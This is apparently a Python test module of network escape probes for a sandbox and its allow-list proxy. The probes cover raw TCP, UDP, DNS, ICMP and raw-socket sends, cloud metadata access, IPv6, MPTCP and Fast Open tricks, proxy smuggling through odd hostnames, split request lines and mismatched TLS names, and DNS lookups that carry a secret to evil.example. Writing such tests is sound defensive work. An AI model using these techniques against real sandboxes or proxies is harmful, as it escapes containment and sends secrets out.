"""Attacks over the network: past the namespace, and past the proxy where some host is allowed.

In the world every address is local, and whatever is sent to any of them is seen. The world's port
3128 is a proxy that lets everything through: what these ask of it, the sandbox's must refuse.
"""

from __future__ import annotations

from attack_probe import Probe

GRANTED = ("api.example:443",)
# Say something to the proxy, and print all that comes back.
_ASK = """
def ask(*lines, port=3128):
    try:
        with socket.create_connection(("127.0.0.1", port), 2) as s:
            s.settimeout(1.5)
            for line in lines:
                s.sendall(line if isinstance(line, bytes) else line.encode())
                try:
                    print(s.recv(65536))
                except OSError as error:
                    print(error)
    except OSError as error:
        print(error)


def connect(*targets):
    for target in targets:
        ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n", "hello\\n")
"""
# A TLS ClientHello that names `host`.
_HELLO = """
def hello(host):
    name = host.encode()
    sni = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    more = sni + bytes.fromhex("000a00040002001d 000d000400020403 002b0003020304")
    body = b"\\3\\3" + bytes(32) + b"\\0" + bytes.fromhex("00021301 0100")
    body += struct.pack("!H", len(more)) + more
    shake = b"\\1" + struct.pack("!L", len(body))[1:] + body
    return b"\\x16\\3\\1" + struct.pack("!H", len(shake)) + shake
"""
_TRY = """
def each(act, *arguments):
    for argument in arguments:
        try:
            act(argument)
        except OSError as error:
            print(argument, error)


def tcp(address):
    with socket.create_connection(address, 2) as s:
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print(s.recv(4096))


def udp(address):
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(query(), address)
        print(s.recv(4096))


"""
_QUERY = r"""
def query():
    labels = b"".join(bytes([len(w)]) + w for w in b"secret.evil.example".split(b"."))
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


"""


def _direct(name: str, kind: str, why: str, source: str, **more: object) -> Probe:
    return Probe(name, kind, why, _TRY + _QUERY + source, **more)


def _proxied(name: str, why: str, source: str, kind: str = "tcp") -> Probe:
    return Probe(name, kind, why, _ASK + _HELLO + source, net=GRANTED)


def _past(name: str, kind: str, why: str, source: str, **more: object) -> Probe:
    return Probe(name, kind, why, _TRY + _QUERY + source, net=GRANTED, **more)


_DIRECT = (
    _direct(
        "tcp-to-the-internet",
        "tcp",
        "One connection carries everything away.",
        "each(tcp, ('93.184.216.36', 80), ('8.8.8.8', 443), ('10.1.2.3', 22))\n",
    ),
    _direct(
        "tcp-to-services-of-the-host",
        "tcp",
        "Databases and debuggers on loopback ask for no password.",
        "each(tcp, *(('127.0.0.1', port) for port in W['tcp']))\n",
    ),
    _direct(
        "tcp-to-other-loopbacks",
        "tcp",
        "The whole of 127/8 is the host, and so is 0.0.0.0.",
        "each(tcp, ('127.1.2.3', 5432), ('0.0.0.0', 5432), ('127.255.255.254', 6379))\n",
    ),
    _direct(
        "tcp-by-the-bare-call",
        "tcp",
        "A call made without a library passes by whatever is only preloaded.",
        "s = syscall('socket', 2 | 1 << 32, 1, 6)\n"
        "libc.connect(s, struct.pack('=HH4B8x', 2, 0x0F27, 93, 184, 216, 36), 16)\n",
    ),
    _direct(
        "tcp-by-a-datagram-address",
        "tcp",
        "An IPv6 socket reaches IPv4 by an address that is mapped.",
        "each(tcp, ('::ffff:93.184.216.36', 80), ('::ffff:127.0.0.1', 5432))\n",
    ),
    _direct(
        "tcp-by-an-unwaited-connect",
        "tcp",
        "The first packet leaves before anybody has waited for the connection.",
        """
for port in (80, 443, 9999):
    s = socket.socket()
    s.setblocking(False)
    print(s.connect_ex(("93.184.216.36", port)))
time.sleep(0.1)
""",
    ),
    _direct(
        "udp-to-the-internet",
        "udp",
        "Datagrams carry secrets without a connection.",
        "each(udp, ('93.184.216.36', 9999), ('8.8.8.8', 443))\n",
    ),
    _direct(
        "udp-to-services-of-the-host",
        "udp",
        "The host's time and name services answer on loopback.",
        "each(udp, *(('127.0.0.1', port) for port in W['udp']))\n",
    ),
    _direct(
        "udp-by-many-messages",
        "udp",
        "sendmmsg sends datagrams that a filter of sendto does not see.",
        """
s = syscall("socket", 2, 2, 0)
address = ctypes.create_string_buffer(struct.pack("=HH4B8x", 2, 0x0F27, 93, 184, 216, 36))
word = ctypes.create_string_buffer(b"hello")
piece = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(word), 5))
at = map(ctypes.addressof, (address, piece))
message = struct.pack("@PIPNPNi4xi4x", next(at), 16, next(at), 1, 0, 0, 0, 0)
libc.sendmmsg(s, message, 1, 0)
""",
    ),
    _direct(
        "udp-lite",
        "udp",
        "A protocol that is almost UDP is left out of rules for UDP.",
        "s = socket.socket(2, socket.SOCK_DGRAM, 136)\ns.sendto(b'hello', ('93.184.216.36', 9999))\n",
    ),
    _direct(
        "udp-to-everybody",
        "udp",
        "Broadcasts and multicasts reach printers and televisions of the local network.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for address in ("239.255.255.250", "224.0.0.251", "10.255.255.255"):
    s.sendto(b"M-SEARCH * HTTP/1.1\\r\\n\\r\\n", (address, 1900))
""",
    ),
    _direct(
        "dns-by-the-library",
        "dns",
        "A name that is looked up carries a secret to whoever serves the domain.",
        """
for name in ("secret.evil.example", "inner.example"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as error:
        print(error)
""",
    ),
    _direct(
        "dns-over-udp",
        "dns",
        "A question to any name server carries a secret.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "10.0.2.3"):
    s.sendto(query(), (server, 53))
""",
    ),
    _direct(
        "dns-over-tcp",
        "dns",
        "The same question goes over TCP.",
        """
def ask(server):
    with socket.create_connection((server, 53), 2) as s:
        s.sendall(struct.pack("!H", len(query())) + query())


each(ask, "127.0.0.1", "8.8.8.8")
""",
    ),
    _direct(
        "icmp-echo",
        "icmp",
        "The bytes of an echo request go where no port is.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\0\\xf7\\xff" + bytes(4), ("93.184.216.36", 0))
""",
    ),
    _direct(
        "icmp-echo-of-ipv6",
        "icmp",
        "IPv6 has an echo of its own.",
        """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
s.sendto(b"\\x80\\0\\0\\0" + bytes(4), ("2001:db8::1", 0))
""",
    ),
    _direct(
        "raw-packet",
        "raw",
        "A packet of one's own making has any protocol and any sender.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(b"hello", ("93.184.216.36", 0))
""",
        root=True,
    ),
    _direct(
        "raw-packet-with-a-header",
        "raw",
        "With a header of its own a guest sends in the name of another machine.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ends = socket.inet_aton("10.9.9.9") + socket.inet_aton("93.184.216.36")
s.sendto(struct.pack("!BBHHHBBH", 0x45, 0, 25, 1, 0, 64, 253, 0) + ends + b"hello", ("93.184.216.36", 0))
""",
        root=True,
    ),
    _direct(
        "raw-frame",
        "raw",
        "A frame is sent below every rule for addresses.",
        """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind(("lo", 0))
s.send(bytes(12) + b"\\x88\\xb5" + b"hello" * 12)
""",
        root=True,
    ),
    _direct(
        "raw-frames-are-heard",
        "raw",
        "A listener on an interface hears what every program of the host sends.",
        """
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
s.settimeout(1)
got()
""",
        root=True,
    ),
    _direct(
        "ipv6-to-the-internet",
        "ipv6",
        "Rules for IPv4 alone leave the other half of the network open.",
        "each(tcp, ('2001:db8::1', 443), ('2606:2800:220:1::1', 80))\n",
    ),
    _direct(
        "ipv6-to-services-of-the-host",
        "ipv6",
        "Services listen on ::1 too.",
        "each(tcp, ('::1', 5432), ('::1', 6379))\neach(udp, ('::1', 9999))\n",
    ),
    _direct(
        "ipv6-to-the-link",
        "ipv6",
        "Neighbours on the link are reached without any route.",
        """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(b"hello", ("ff02::1", 9999, 0, socket.if_nametoindex("lo")))
""",
    ),
    _direct(
        "mptcp-to-the-internet",
        "mptcp",
        "Multipath TCP is another protocol to rules that say TCP.",
        """
for family, address in ((2, "93.184.216.36"), (10, "2001:db8::1"), (2, "127.0.0.1")):
    s = socket.socket(family, socket.SOCK_STREAM, 262)
    s.settimeout(1)
    try:
        s.connect((address, 443))
    except OSError as error:
        print(error)
""",
    ),
    _direct(
        "fast-open-sends-first",
        "fast-open",
        "Fast Open connects by sending, and never calls connect.",
        """
s = socket.socket()
s.settimeout(1)
print(s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", socket.MSG_FASTOPEN, ("93.184.216.36", 80)))
""",
    ),
    _direct(
        "fast-open-by-a-message",
        "fast-open",
        "sendmsg takes the same flag.",
        """
s = socket.socket()
s.settimeout(1)
print(s.sendmsg([b"hello"], [], socket.MSG_FASTOPEN, ("127.0.0.1", 9999)))
""",
    ),
    _direct(
        "fast-open-by-an-option",
        "fast-open",
        "With the option set, connect returns at once and the first write connects.",
        """
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, 30, 1)
s.connect(("93.184.216.36", 80))
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
""",
    ),
    _direct(
        "metadata-of-the-cloud",
        "metadata",
        "The metadata service hands the machine's keys to whoever asks.",
        "each(tcp, ('169.254.169.254', 80), ('169.254.170.2', 80), ('100.100.100.200', 80))\n",
    ),
    _direct(
        "metadata-over-ipv6",
        "metadata",
        "The same service has an IPv6 address.",
        "each(tcp, ('fd00:ec2::254', 80), ('::ffff:169.254.169.254', 80))\n",
    ),
    _direct(
        "waits-for-the-host",
        "tcp",
        "A service that a guest opens on the host is mistaken for the host's own.",
        """
s = socket.create_server(("127.0.0.1", 7777))
try:
    socket.create_connection(("127.0.0.1", 7777), 1).sendall(b"hello")
except OSError as error:
    print(error)
""",
    ),
)

_PROXIED = (
    _proxied(
        "proxy-asked-for-another-host",
        "Any other host is where the secrets go.",
        'connect("other.example:443", "evil.example:443", "example:443", "xapi.example:443")\n',
    ),
    _proxied(
        "proxy-asked-for-another-port",
        "Another port of an allowed host is another service.",
        'connect("api.example:80", "api.example:22", "api.example:65979", "api.example:0443443")\n',
    ),
    _proxied(
        "proxy-asked-for-an-address",
        "An address written out passes by rules for names.",
        'connect("93.184.216.36:443", "127.0.0.1:5432", "[::1]:5432", "[2001:db8::1]:443")\n',
        kind="ipv6",
    ),
    _proxied(
        "proxy-asked-for-odd-addresses",
        "An address has many spellings.",
        'connect("2130706433:5432", "0x7f000001:5432", "0177.0.0.1:5432", "127.1:5432", "0:5432")\n',
    ),
    _proxied(
        "proxy-asked-for-mapped-addresses",
        "IPv4 can be written as IPv6.",
        'connect("[::ffff:127.0.0.1]:5432", "[::ffff:a9fe:a9fe]:80", "[64:ff9b::7f00:1]:5432")\n',
        kind="ipv6",
    ),
    _proxied(
        "proxy-asked-for-the-metadata",
        "The proxy stands where the metadata service can be reached.",
        """
connect("169.254.169.254:80", "inner.example:80", "2852039166:80")
ask("GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")
""",
        kind="metadata",
    ),
    _proxied(
        "proxy-asked-for-the-host",
        "The proxy stands on the host's loopback.",
        """
connect("localhost:5432", "localhost:443", "ip6-localhost:443", "localhost.:443")
ask("GET http://localhost:8080/ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
""",
    ),
    _proxied(
        "proxy-asked-with-odd-names",
        "A name with a byte too many is one host to the rule and another to the resolver.",
        """
connect("api.example\\0.evil.example:443", "api.example%2eevil.example:443", "api.example.evil.example:443")
connect("api.example@evil.example:443", "evil.example#api.example:443", "evil.example?api.example:443")
""",
    ),
    _proxied(
        "proxy-asked-in-absolute-form",
        "A plain request is sent wherever its address says.",
        """
for where in ("http://other.example/", "http://api.example@other.example/", "http://api.example:80/"):
    ask(f"GET {where} HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n")
""",
    ),
    _proxied(
        "proxy-asked-by-the-host-header",
        "The line names one host and the header another.",
        """
ask("GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n")
ask("CONNECT other.example:443 HTTP/1.1\\r\\nHost: api.example:443\\r\\n\\r\\n", "hello\\n")
""",
    ),
    _proxied(
        "proxy-asked-with-two-lines",
        "A line broken with a bare character hides a second request.",
        """
ask("CONNECT api.example:443\\nCONNECT other.example:443 HTTP/1.1\\r\\n\\r\\n", "hello\\n")
ask("CONNECT other.example:443 api.example:443 HTTP/1.1\\r\\n\\r\\n", "hello\\n")
ask("CONNECT\\tother.example:443 HTTP/1.1\\r\\n\\r\\n", "hello\\n")
""",
    ),
    _proxied(
        "proxy-asked-for-another-scheme",
        "Other schemes read files and speak other protocols.",
        """
for where in ("file:///etc/app.conf", "ftp://other.example/", "gopher://127.0.0.1:6379/_x"):
    ask(f"GET {where} HTTP/1.1\\r\\nHost: api.example\\r\\n\\r\\n")
""",
    ),
    _proxied(
        "proxy-asked-a-second-time",
        "A second request on a connection that is trusted goes unchecked.",
        """
first = "GET http://api.example:443/ HTTP/1.1\\r\\nHost: api.example:443\\r\\n\\r\\n"
with socket.create_connection(("127.0.0.1", 3128), 2) as s:
    s.sendall((first + first.replace("api.example:443", "other.example:80")).encode())
    time.sleep(0.5)
""",
    ),
    _proxied(
        "proxy-resolves-a-secret",
        "A proxy that looks a name up before it refuses has told the secret already.",
        'connect("c2VjcmV0.evil.example:443", "c2VjcmV0.api.example:443")\n',
        kind="dns",
    ),
    _proxied(
        "tunnel-with-another-name",
        "Behind one address of a network of servers are the sites of everybody.",
        """
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", hello("other.example"))
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", hello("127.0.0.1"))
""",
    ),
    _proxied(
        "tunnel-without-a-name",
        "A tunnel that carries anything but TLS for the host carries anything.",
        """
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", "SSH-2.0-evil\\r\\n")
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n")
ask("CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n", hello("api.example")[:40], b"hello\\n")
""",
    ),
    _proxied(
        "tunnel-to-mail",
        "A proxy that tunnels to port 25 sends mail for anybody.",
        'connect("api.example:25", "other.example:25")\n',
    ),
)

_PAST = (
    _past(
        "past-the-proxy-over-tcp",
        "tcp",
        "A proxy that a guest need not use is none.",
        "each(tcp, ('93.184.216.34', 443), ('93.184.216.36', 443), ('127.0.0.1', 5432))\n",
    ),
    _past(
        "past-the-proxy-by-its-port",
        "tcp",
        "A rule that allows the proxy's port allows it on every machine.",
        "each(tcp, ('93.184.216.36', 3128), ('127.0.0.2', 3128), ('::1', 3128), ('10.0.2.2', 3128))\n",
    ),
    _past(
        "past-the-proxy-over-udp",
        "udp",
        "A proxy for TCP says nothing of datagrams.",
        "each(udp, ('93.184.216.34', 443), ('127.0.0.1', 9999), ('93.184.216.36', 3128))\n",
    ),
    _past(
        "past-the-proxy-over-dns",
        "dns",
        "A guest that may reach one host must not ask name servers itself.",
        "s = socket.socket(2, socket.SOCK_DGRAM)\ns.sendto(query(), ('127.0.0.1', 53))\n",
    ),
    _past(
        "past-the-proxy-over-mptcp",
        "mptcp",
        "Landlock's rules for ports know TCP alone.",
        """
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.connect(("93.184.216.36", 443))
""",
    ),
    _past(
        "past-the-proxy-by-fast-open",
        "fast-open",
        "A connection that is never connected passes by rules for connecting.",
        """
s = socket.socket()
s.sendto(b"hello", socket.MSG_FASTOPEN, ("93.184.216.36", 443))
""",
    ),
    _past(
        "past-the-proxy-by-its-descriptor",
        "tcp",
        "The listening socket that was passed out may have been left inside, to be taken over.",
        """
try:
    taken = socket.create_server(("127.0.0.1", 3128), reuse_port=True)
except OSError as error:
    print(error)
each(tcp, ("93.184.216.36", 3128))
for number in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(number))
        s.accept()
        got()
    except OSError:
        pass
""",
    ),
)

PROBES = (*_DIRECT, *_PROXIED, *_PAST)
